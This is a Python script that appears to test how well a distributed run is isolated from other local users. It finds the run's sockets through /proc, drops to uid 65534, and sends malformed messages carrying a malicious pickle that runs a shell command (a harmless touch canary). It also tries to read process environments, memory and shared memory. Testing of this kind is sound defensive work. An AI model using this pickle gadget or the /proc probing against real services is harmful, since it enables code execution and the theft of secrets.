"""Try what another user of the machine could do to the processes of a run. The attacks run as user 65534.

    other_user.py PIDS FOLDER

Print, as JSON, the listeners that were found and the data that could be read. Every pickle that is sent touches
FOLDER/ran (a file that anyone may write) if a process loads it.
"""

from __future__ import annotations

import json
import os
import pickle
import socket
import sys
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

STRANGER = 65534


class Command:
    """An object that runs a shell command when it is unpickled."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.folder}/ran",)


def inodes(pids: list[int]) -> set[str]:
    """Return the kernel's socket inode numbers that the processes have open."""
    found = set()
    for pid in pids:
        for link in Path(f"/proc/{pid}/fd").glob("*"):
            with suppress(OSError):
                told = os.readlink(link)
                if told.startswith("socket:["):
                    found.add(told[8:-1])
    return found


def tcp_listeners(ours: set[str]) -> Iterator[tuple[str, int]]:
    """Yield (host, port) of each listening TCP socket that belongs to the processes."""
    for family, name in ((socket.AF_INET, "tcp"), (socket.AF_INET6, "tcp6")):
        for line in Path(f"/proc/net/{name}").read_text().splitlines()[1:]:
            words = line.split()
            if words[3] == "0A" and words[9] in ours:
                address, port = words[1].split(":")
                whole = bytes.fromhex(address)
                host = b"".join(whole[at : at + 4][::-1] for at in range(0, len(whole), 4))
                yield socket.inet_ntop(family, host), int(port, 16)


def unix_listeners(ours: set[str]) -> Iterator[str]:
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        words = line.split()
        if words[3] == "00010000" and words[6] in ours and len(words) > 7:
            yield words[7].replace("@", "\0", 1)


def garbage(address: str, payload: bytes) -> bytes:
    """Send malformed messages in the framing of the run's protocol and of gloo; return the bytes that come back."""
    come = b""
    for head in (b"", bytes(8), (1).to_bytes(8, "little"), (8).to_bytes(4, "big") + (1).to_bytes(4, "big")):
        with suppress(OSError), socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.settimeout(2)
            connection.connect(address)
            connection.sendall(head + payload)
            come += connection.recv(1 << 16)
    return come


def attack(pids: list[int], folder: Path) -> dict[str, object]:
    ours = inodes(pids)
    tcp, unix = list(tcp_listeners(ours)), list(unix_listeners(ours))
    os.setgroups([])
    os.setgid(STRANGER)
    os.setuid(STRANGER)
    payload = pickle.dumps(Command(folder))
    told = b"".join(garbage(name, payload) for name in unix)
    read = []
    for pid in pids:
        places = [*Path("/dev/shm").glob("*"), Path(f"/proc/{pid}/environ"), Path(f"/proc/{pid}/mem")]
        places += [Path(f"/proc/{pid}/fd/{number}") for number in range(256)]
        for place in places:
            with suppress(OSError):
                os.close(os.open(place, os.O_RDONLY))
                read.append(str(place))
    return {"tcp": tcp, "unix": len(unix), "told": told.hex(), "read": sorted(set(read))}


if __name__ == "__main__":
    print(json.dumps(attack([int(pid) for pid in sys.argv[1].split(",")], Path(sys.argv[2]))))
